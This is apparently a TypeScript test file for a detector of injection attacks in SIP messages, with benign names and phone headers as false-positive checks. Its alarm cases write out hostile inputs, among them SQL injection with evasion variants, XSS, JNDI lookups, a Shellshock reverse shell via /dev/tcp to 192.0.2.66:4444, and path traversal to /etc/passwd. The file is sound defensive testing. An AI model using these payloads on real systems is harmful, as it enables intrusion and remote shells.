import assert from 'node:assert/strict'
import { existsSync, readFileSync } from 'node:fs'
import { test } from 'node:test'
import { type RequestOf, readRequest, Trace, tryDetector } from '../../../test/support/trace.ts'
import { checkMessage } from '../../sip/message/check.ts'
import { parseMessage } from '../../sip/message/parse.ts'
import { type Family, familyOf } from '../text/families.ts'
import { injection } from './injection.ts'

const THIEF = '192.0.2.7'
const SUBJECT = `source:${THIEF}`

const ALICE: RequestOf = { from: 'sip:alice@example.test', to: 'sip:alice@example.test' }

const sends = (parts: RequestOf) => (trace: Trace) => void trace.request(THIEF, parts)
const says = (line: string) => sends({ lines: [line] })

tryDetector(injection, {
  alarm: [
    {
      name: 'SQL in the user name of REGISTER, as the paper has it (B01)',
      subject: SUBJECT,
      trace: trace =>
        void trace.logsIn(
          THIEF,
          "gkar';UPDATE users SET first_name='malicious' WHERE username='gkar'--",
          'wrong-credentials',
          ALICE,
        ),
    },
    {
      name: 'SQL in the Request-URI, escaped (B02)',
      subject: SUBJECT,
      trace: sends({ uri: 'sip:x%27%20OR%201=1--@example.test' }),
    },
    {
      name: 'evasion: escaped twice (B02)',
      subject: SUBJECT,
      trace: sends({ to: 'sip:x%2527%2520oR%25201%253D1--@example.test' }),
    },
    { name: 'SQL in From (B02)', subject: SUBJECT, trace: sends({ from: "sip:'or''='@example.test" }) },
    {
      name: 'evasion: comments for blanks, odd case (B02)',
      subject: SUBJECT,
      trace: says("Subject: x'/**/uNiOn/*a*/SeLeCt/**/1,2"),
    },
    {
      name: 'evasion: a full-width apostrophe (B02)',
      subject: SUBJECT,
      trace: says('Subject: \xef\xbc\x87 OR 1=1--'),
    },
    {
      name: 'evasion: folded over two lines (B02, P08)',
      subject: SUBJECT,
      trace: says("Subject: x' union\r\n select password from users"),
    },
    { name: 'SQL without quotes (B02)', subject: SUBJECT, trace: says('User-Agent: 1 OR 1=1') },
    {
      name: 'SQL in Contact, branch and Call-ID (B02)',
      subject: SUBJECT,
      trace: sends({ callId: "a'union(select(1))--b" }),
    },
    {
      name: 'a line end in a user part (B03, P10)',
      subject: SUBJECT,
      trace: sends({ uri: 'sip:alice%0d%0aRoute:%20x@example.test' }),
    },
    {
      name: 'a filter of LDAP (B03)',
      subject: SUBJECT,
      trace: sends({ uri: 'sip:*)(uid=*))(%7c(uid=*@example.test' }),
    },
    {
      name: 'script in User-Agent (B04)',
      subject: SUBJECT,
      trace: says('User-Agent: <img src=a onerror=alert(1)>'),
    },
    {
      name: 'script in a display name (B04)',
      subject: SUBJECT,
      trace: sends({ fromName: '"<ScRiPt>alert(1)</sCrIpT>" ' }),
    },
    {
      name: 'a look-up for a logging library (B05)',
      subject: SUBJECT,
      trace: says('User-Agent: $' + '{jndi:ldap://192.0.2.66/a}'),
    },
    {
      name: 'evasion: a look-up in look-ups (B05)',
      subject: SUBJECT,
      trace: says('X-Api: $' + '{$' + '{lower:j}ndi:x}'),
    },
    {
      name: 'a command in an unknown field (B05)',
      subject: SUBJECT,
      trace: says('X-Ploit: () { :;};exec >/dev/tcp/192.0.2.66/4444'),
    },
    { name: 'a command in backquotes (B05)', subject: SUBJECT, trace: says('Subject: `id`') },
    {
      name: 'a path out of the folder (B06)',
      subject: SUBJECT,
      trace: sends({ uri: 'sip:..%2f..%2fetc%2fpasswd@example.test' }),
    },
    { name: 'a format string (P09)', subject: SUBJECT, trace: says('Subject: %s%s%s%n') },
    {
      name: 'an escape sequence for terminals (P10)',
      subject: SUBJECT,
      trace: sends({ fromName: '"\x1b[31mCRITICAL" ' }),
    },
    {
      name: 'a forged log entry (P10)',
      subject: SUBJECT,
      trace: says('User-Agent: ","level":"info","msg":"ok'),
    },
    {
      name: 'a key that interpreters know (P12)',
      subject: SUBJECT,
      trace: sends({ uri: 'sip:__proto__@example.test' }),
    },
    {
      name: 'in the reason phrase of a response (B04)',
      subject: SUBJECT,
      trace: trace => {
        const request = trace.call('192.0.2.8')
        const text =
          `SIP/2.0 486 $` +
          `{jndi:x}\r\nVia: ${request.topVia.text}\r\nFrom: ${request.from.text}\r\nTo: ${request.to.text};tag=t\r\nCall-ID: ${request.callId}\r\nCSeq: 1 INVITE\r\nContent-Length: 0\r\n\r\n`
        const parsed = parseMessage(text, true)
        assert.ok(parsed.ok && parsed.value.kind === 'response')
        trace.observer.response(trace.where(THIEF), parsed.value, false)
      },
    },
    {
      name: 'in what is no message (P09)',
      subject: SUBJECT,
      trace: trace =>
        trace.observer.malformed(
          trace.where(THIEF),
          'INVITE sip:x SIP/2.0\r\nFrom: %n%n%n\r\n\r\n',
          'from-malformed',
        ),
    },
  ],
  quiet: [
    {
      name: 'a user whose name begins like a word of SQL calls one with an apostrophe (B07)',
      trace: trace => {
        const lines = [
          'Proxy-Authorization: Digest username="union.7", realm="example.test", uri="sip:o\'brien@example.test"',
        ]
        trace.request(THIEF, { fromName: '"Union Office" ', lines })
      },
    },
    {
      name: 'names that look like statements and are none (B07)',
      trace: trace => {
        const names = [
          "O'Brien",
          'Select',
          'a--b',
          "D'Arcy & Sons",
          'Union Station',
          "'t Hooft",
          "Rock 'n' Roll",
          'Drop-In Center',
          'AT&T',
          'Bob (home); office',
          'J\xc3\xbcrgen M\xc3\xb6ller',
          '\xd0\x9f\xd0\xb5\xd1\x82\xd1\x80',
          '+44 20 7946 0000',
          "L'Oreal and Co",
          'C++ Team',
          '100% Pure',
          "Update's here",
          'Sales #2',
          'Andr\xe9',
        ]
        for (const name of names) trace.request(THIEF, { fromName: `"${name}" ` })
        const users = [
          '+442079460000',
          "o'brien",
          'a--b',
          'select',
          '*98',
          '%2398',
          'alice%40home',
          '0012125550000',
          'user;phone-context=+1',
          'conference',
          'production',
          '0x12',
        ]
        for (const user of users)
          trace.request(THIEF, { uri: `sip:${user}@example.test`, to: `sip:${user}@example.test` })
      },
    },
    {
      name: 'fields of phones',
      trace: trace => {
        const lines = [
          'User-Agent: Linphone/3.6.1 (eXosip2/4.1.0)',
          'User-Agent: Telephone 1.5 (Macintosh; Intel Mac OS X 10_15)',
          'User-Agent: Cisco-CP7841-3PCC/11.3.1_00a-88:1d:fc',
          'Contact: "Bob" <sip:bob@192.0.2.4:5060;transport=tls;ob>;+sip.instance="<urn:uuid:0C67446E-F1A1-11D9-94D3-000A95A0E128>";reg-id=1',
          'Contact: *',
          'Alert-Info: <http://www.notused.com>;info=alert-autoanswer;delay=0',
          'P-Access-Network-Info: 3GPP-E-UTRAN-FDD;utran-cell-id-3gpp=310150abc',
          'Subject: Re: lunch, and or tea?',
          'Warning: 399 proxy.example.test "Call was made; see http://example.test/?a=1&b=2"',
          'Reason: Q.850;cause=16;text="Normal call clearing"',
          'X-Asterisk-HangupCause: Normal Clearing',
          'Session-ID: ab30317f1a784dc48ff824d0d3715d86;remote=00000000000000000000000000000000',
          'P-Charging-Vector: icid-value="PCSF:1-2-3";orig-ioi=example.test',
        ]
        for (const line of lines) trace.request(THIEF, { lines: [line] })
      },
    },
    {
      name: 'old phones whose lines end with LF',
      trace: t =>
        t.observer.malformed(
          t.where(THIEF),
          'REGISTER sip:x SIP/2.0\nVia: a\nUser-Agent: Old Phone\n\n',
          'bare-line-end',
        ),
    },
    {
      name: 'octets of another protocol',
      trace: t => t.observer.malformed(t.where(THIEF), '\x16\x03\x01\x00\x9b\x01\0\0', 'not-sip'),
    },
  ],
})

test('weak families weigh little, so an odd name blocks nobody', () => {
  const trace = new Trace([injection])
  trace.request(THIEF, { uri: 'sip:constructor@example.test' })
  assert.equal(trace.findings[0]?.score, 10)
  assert.equal(trace.findings[0]?.confidence, 'low')
})

test('what stands in why is escaped', () => {
  const trace = new Trace([injection])
  trace.request(THIEF, { lines: ['Subject: <script>\x1b[0m'] })
  assert.doesNotMatch(trace.findings[0]?.why ?? '', /[<\x1b]/)
})

test('a family is found in time linear in the field', () => {
  for (const piece of ["' or ", '<', '%25', '=1', '`', ';', '/*', 'on', '&', '?'])
    assert.doesNotThrow(() => familyOf(piece.repeat(20_000), 'free'))
})

const CORPUS = new URL('../../../../shared/corpus/', import.meta.url)
const skip = existsSync(CORPUS) ? false : 'needs the corpus beside the project'

test('payloads of other makers are found in the families that they belong to (B01 to B05)', { skip }, () => {
  const file: Record<string, { payloads?: { id: string; text?: string; b64?: string }[] }> = JSON.parse(
    readFileSync(new URL('payloads.json', CORPUS), 'utf8'),
  )
  /** What needs no decoding to be refused: lines without colon or name, and blanks before a colon. */
  const refused = new Set(['empty-name', 'no-colon', 'tab-colon'])
  const missed: string[] = []
  for (const group of ['sqli', 'xss', 'log', 'hdr']) {
    for (const { id, text, b64 } of file[group]?.payloads ?? []) {
      const raw =
        b64 === undefined
          ? Buffer.from(text ?? '').toString('latin1')
          : Buffer.from(b64, 'base64').toString('latin1')
      if (!refused.has(id) && familyOf(raw, 'free') === undefined) missed.push(`${group} ${id}`)
    }
  }
  assert.deepEqual(missed, [])
})

test('valid messages of others are no injections, but for control characters in three (P03, B07)', {
  skip,
}, () => {
  const { cases }: { cases: { file: string; validity: string; template?: boolean }[] } = JSON.parse(
    readFileSync(new URL('manifest.json', CORPUS), 'utf8'),
  )
  const found: string[] = []
  const weak: Family[] = []
  for (const { file, validity, template } of cases) {
    if (template === true || (validity !== 'valid' && validity !== 'legacy')) continue
    const parsed = parseMessage(readFileSync(new URL(file, CORPUS), 'latin1'), true)
    if (!parsed.ok || parsed.value.kind !== 'request' || checkMessage(parsed.value) !== undefined) continue
    const trace = new Trace([injection])
    trace.request(THIEF, readRequest(parsed.value.text))
    for (const { score, why } of trace.findings) {
      if (score > 10) found.push(`${file}: ${why}`)
      else weak.push('control-character')
    }
  }
  assert.deepEqual(found, [])
  assert.ok(weak.length <= 3)
})
